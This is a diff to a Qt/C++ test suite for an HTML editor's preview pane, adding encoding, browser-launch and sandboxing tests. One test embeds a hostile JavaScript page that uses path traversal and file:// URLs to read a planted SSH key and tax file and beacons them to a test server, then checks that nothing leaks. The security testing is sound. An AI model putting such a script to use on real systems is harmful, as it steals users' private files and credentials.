@@ -7,19 +7,23 @@
 #include "common/SettingsIni.h"
 #include "common/TEmbeddedWB.h"
 #include "editor/TGlyphEditView.h"
+#include "net/HttpTestServer.h"
 #include "support/BrowserScript.h"
+#include "support/FakeWebBrowser.h"
 #include "support/ScriptedPrompts.h"
 #include "support/TestEnvironment.h"
 #include "support/UrlRecorder.h"
 
 #include <QApplication>
 #include <QDir>
+#include <QDirIterator>
 #include <QDockWidget>
 #include <QFile>
 #include <QImage>
 #include <QListWidget>
 #include <QMenu>
 #include <QMouseEvent>
+#include <QSignalSpy>
 #include <QTabWidget>
 #include <QTemporaryDir>
 #include <QTest>
@@ -100,7 +104,7 @@ TEST_F(PreviewPane, QuickPreviewShowsTheTextWithItsRelativeImage) {
     EXPECT_TRUE(form->TBWindowPreview->isVisible());
     EXPECT_EQ(form->PageControl->currentWidget(), form->TSWebBrowser);
     EXPECT_TRUE(ReadAll(PreviewFilePath(1))
-                    .startsWith("<HTML><BASE href=\"" + TEmbeddedWB::LocalUrl(page).toUtf8()));
+                    .startsWith("<HTML><BASE href=\"" + TEmbeddedWB::BaseUrl(page).toUtf8()));
     ASSERT_TRUE(form->EmbeddedWB->EngineStarted());
     QTRY_VERIFY_WITH_TIMEOUT(
         PageReports(*form->EmbeddedWB,
@@ -115,6 +119,21 @@ TEST_F(PreviewPane, QuickPreviewShowsTheTextWithItsRelativeImage) {
     QTRY_VERIFY_WITH_TIMEOUT(
         PageReports(*form->EmbeddedWB, "document.getElementById('t').textContent == 'Changed'"),
         Deadline);
+}
+
+// The preview holds the page's own bytes, so that a page shows as the encoding it declares says.
+TEST_F(PreviewPane, QuickPreviewWritesThePageInTheDocumentsEncoding) {
+    const QByteArray bytes = "<meta charset=iso-8859-1><p id=t>caf\xe9 \x80</p>\r\n";
+    const QString page = Write(dir_.filePath("latin.htm"), bytes);
+    auto form = StartWith({page});
+    form->ClickMenuItem(form->MIQuickPreview);
+    EXPECT_EQ(ReadAll(PreviewFilePath(1)), "<HTML><BASE href=\"" +
+                                               TEmbeddedWB::BaseUrl(page).toUtf8() + "\">" + bytes +
+                                               "</HTML>");
+    QTRY_VERIFY_WITH_TIMEOUT(PageReports(*form->EmbeddedWB,
+                                         "document.getElementById('t').textContent == "
+                                         "'caf\\u00e9 \\u20ac'"),
+                             Deadline);
 }
 
 TEST_F(PreviewPane, QuickPreviewOfAnUntitledDocumentKeepsItsEmptyMacros) {
@@ -153,33 +172,174 @@ TEST_F(PreviewPane, AFailedQuickPreviewShowsTheErrorAndKeepsThePage) {
     }
 }
 
-TEST_F(PreviewPane, PreviewInBrowserShowsTheSavedFileOnly) {
+// The saved file goes to a web browser, never to the handler of HTML files (which may be this
+// program): the desktop's default browser, else x-www-browser, else a message.
+TEST_F(PreviewPane, PreviewInBrowserShowsTheSavedFileInAWebBrowser) {
     const QString saved = Write(dir_.filePath("saved.htm"), "<p>on disk</p>");
     // A file of the untitled name in the working folder is not the untitled document.
     Write(dir_.filePath("Untitled.htm"), "<p>stray</p>");
     const QString workingFolder = QDir::currentPath();
     QDir::setCurrent(dir_.path());
-    for (const QString& file : {QString(), saved}) {
-        SCOPED_TRACE(file.toStdString());
-        auto form = StartWith(file.isEmpty() ? QStringList{} : QStringList{file});
-        UrlRecorder urls;
+    const struct {
+        QString File;
+        FakeWebBrowser::TKind Browsers;
+        QString Started; // the browser's command line
+        QString Message;
+    } cases[] = {
+        {{},
+         FakeWebBrowser::DefaultEntry,
+         {},
+         "You must save this file before you can preview it."},
+        {saved,
+         FakeWebBrowser::DefaultEntry,
+         "fakebrowser --new-window " + QUrl::fromLocalFile(saved).toString(),
+         {}},
+        {saved, FakeWebBrowser::XWwwBrowser, "x-www-browser " + saved, {}},
+        {saved,
+         FakeWebBrowser::None,
+         {},
+         "No web browser was found to show \"" + saved +
+             "\".\r\rInstall one, or make one the default web browser of your desktop."},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.Started.toStdString() + c.Message.toStdString());
+        auto form = StartWith(c.File.isEmpty() ? QStringList{} : QStringList{c.File});
+        UrlRecorder handlers;
+        FakeWebBrowser browser(c.Browsers);
         ScriptedPrompts prompts;
-        if (file.isEmpty()) {
+        if (c.File.isEmpty())
             prompts.CancelFile(); // Save As
+        if (!c.Message.isEmpty())
             prompts.AnswerButton(QMessageBox::Ok);
-        }
         form->ClickMenuItem(form->TBPreview);
-        if (file.isEmpty()) {
-            ASSERT_EQ(prompts.Records().size(), 2);
-            EXPECT_EQ(prompts.Records()[1].Text,
-                      "You must save this file before you can preview it.");
-            EXPECT_TRUE(urls.Urls().isEmpty());
-        } else {
-            EXPECT_TRUE(prompts.Records().isEmpty());
-            EXPECT_EQ(urls.Urls(), QList<QUrl>{QUrl::fromLocalFile(saved)});
+        EXPECT_TRUE(handlers.Urls().isEmpty());
+        EXPECT_EQ(prompts.Records().isEmpty() ? QString() : prompts.Records().last().Text,
+                  c.Message);
+        if (!c.Started.isEmpty()) {
+            EXPECT_EQ(browser.Started(), QStringList{c.Started});
         }
     }
     QDir::setCurrent(workingFolder);
+}
+
+// A hostile page in the user's home, previewed with its scripts on: it gets what its site holds
+// for showing (style sheet, image, included header), but none of its scripts reads a file, and
+// no "#include" brings a file from outside its site, or a hidden one, into the preview.
+TEST_F(PreviewPane, APreviewedPageReadsNoFileAndIncludesOnlyFromItsSite) {
+    const QString home = QDir::homePath();
+    Write(home + "/.ssh/id_test", "SSH-KEY-4711");
+    Write(home + "/Documents/taxes.txt", "TAX-RETURN-4712");
+    Write(home + "/Sites/proj/sub/notes.txt", "SITE-NOTE-4713");
+    Write(home + "/Sites/proj/css/site.css", "#t { color: rgb(0, 128, 0) }");
+    Write(home + "/Sites/proj/header.inc", "<p id=hdr>header</p>");
+    QImage picture(8, 8, QImage::Format_RGB32);
+    picture.fill(Qt::blue);
+    QDir().mkpath(home + "/Sites/proj/img");
+    ASSERT_TRUE(picture.save(home + "/Sites/proj/img/logo.png", "PNG"));
+    QDir().mkpath(dir_.filePath("www"));
+    HttpTestServer server(dir_.filePath("www"));
+    ASSERT_TRUE(server.Started());
+    // Tries fetch, XHR and a frame on each target and sends anything secret it reads; then tries
+    // to take the top frame to a secret. Framed, its own file tries the same from its own origin.
+    const QString script = R"(<script>
+var server = "SERVER", sent = 0, me = window === top ? "" : "framed-";
+function send(w) { new Image().src = server + me + w + "?" + (sent++); }
+function leak(i, t) {
+  var at = (t || "").search(/47(11|12|13)/);
+  if (at >= 0) send("leak-" + i + "-" + encodeURIComponent(t.slice(Math.max(0, at - 12), at + 4)));
+}
+send("ran");
+leak("page", document.documentElement.innerHTML);
+var base = document.baseURI, pending = 0, finished = false;
+var targets = [new URL("../../../.ssh/id_test", base).href, new URL("../../../Documents/taxes.txt", base).href,
+  new URL("notes.txt", base).href, new URL(base).origin + "/..%2F..%2F.ssh%2Fid_test",
+  location.origin + "/notes.txt", "file://HOME/.ssh/id_test"];
+if (!me) targets.push(base);
+// The top waits for its framed copy too.
+var waiting = me ? 1 : 2;
+function part() { if (--waiting === 0) finish(); }
+addEventListener("message", function (e) { if (e.data === "framed-done") part(); });
+function finish() {
+  if (finished) return;
+  finished = true; send("done");
+  if (me) parent.postMessage("framed-done", "*");
+  else setTimeout(function () { location.href = targets[0]; }, 100);
+}
+function settle() { if (--pending === 0) part(); }
+targets.forEach(function (t, i) {
+  pending += 3;
+  fetch(t).then(function (r) { return r.text(); }).then(function (x) { leak(i, x); }, function () {}).finally(settle);
+  var x = new XMLHttpRequest();
+  try { x.open("GET", t); x.onload = function () { leak(i, x.responseText); settle(); }; x.onerror = settle; x.send(); } catch (e) { settle(); }
+  // A refused frame never loads: it counts as settled after a while.
+  var f = document.createElement("iframe"), once = false;
+  function frameSettled() { if (!once) { once = true; settle(); } }
+  f.onload = function () { try { leak(i, f.contentDocument.documentElement.innerText); } catch (e) {} frameSettled(); };
+  setTimeout(frameSettled, 3000);
+  f.src = t;
+  document.body.appendChild(f);
+});
+setTimeout(finish, 20000);
+</script>)";
+    const QString attack =
+        QString(script).replace("SERVER", server.Url("report/")).replace("HOME", home);
+    const struct {
+        QString Page;
+        QString Include;
+        QString Refusal; // empty: the preview shows
+    } cases[] = {
+        {"Sites/proj/sub/page.htm", "../header.inc", {}},
+        {"Downloads/page.htm", "../Documents/taxes.txt",
+         "Cannot include \"" + home + "/Documents/taxes.txt\": it lies outside the site " + home +
+             "/Downloads."},
+        {"Sites/proj/keys.htm", "../../.ssh/id_test",
+         "Cannot include \"" + home + "/.ssh/id_test\": it lies outside the site " + home +
+             "/Sites."},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.Page.toStdString());
+        const QString page = Write(
+            home + '/' + c.Page, ("#include \"" + c.Include +
+                                  "\"\n<link rel=stylesheet href=\"../css/site.css\"><p id=t>t</p>"
+                                  "<img id=logo src=\"../img/logo.png\"><p id=body>x</p>\n" +
+                                  attack)
+                                     .toUtf8());
+        auto form = StartWith({page});
+        ScriptedPrompts prompts;
+        if (!c.Refusal.isEmpty())
+            prompts.AnswerButton(QMessageBox::Ok);
+        QSignalSpy loads(form->EmbeddedWB, &TEmbeddedWB::DocumentComplete);
+        form->ClickMenuItem(form->MIQuickPreview);
+        EXPECT_EQ(prompts.Records().size(), c.Refusal.isEmpty() ? 0 : 1);
+        if (!prompts.Records().isEmpty()) {
+            EXPECT_EQ(prompts.Records()[0].Text, c.Refusal);
+            continue;
+        }
+        const qsizetype done = server.Output().count("REPORT /report/done");
+        ASSERT_TRUE(QTest::qWaitFor(
+            [&] { return server.Output().count("REPORT /report/done") > done; }, Deadline))
+            << server.Output().toStdString();
+        EXPECT_TRUE(PageReports(*form->EmbeddedWB,
+                                "getComputedStyle(document.getElementById('t')).color == "
+                                "'rgb(0, 128, 0)' && document.getElementById('hdr') != null && "
+                                "document.getElementById('logo').naturalWidth == 8"));
+        // The top frame stays away from the secret it was sent to.
+        const qsizetype before = loads.size();
+        (void)QTest::qWaitFor([&] { return loads.size() > before; }, 3000);
+        EXPECT_TRUE(
+            PageReports(*form->EmbeddedWB, "!/SSH-KEY/.test(document.documentElement.innerText)"));
+    }
+    const QString output = server.Output();
+    EXPECT_TRUE(output.contains("REPORT /report/ran")) << output.toStdString();
+    for (const char* secret : {"SSH-KEY", "TAX-RETURN", "SITE-NOTE", "/report/leak"})
+        EXPECT_FALSE(output.contains(secret)) << secret << output.toStdString();
+    QDirIterator files(qEnvironmentVariable("XDG_CACHE_HOME"), QDir::Files | QDir::Hidden,
+                       QDirIterator::Subdirectories);
+    while (files.hasNext()) {
+        const QByteArray bytes = ReadAll(files.next());
+        EXPECT_FALSE(bytes.contains("SSH-KEY") || bytes.contains("TAX-RETURN"))
+            << files.filePath().toStdString();
+    }
 }
 
 TEST_F(PreviewPane, SliderResizesWithinTheLimitsAndFollowsTheDock) {
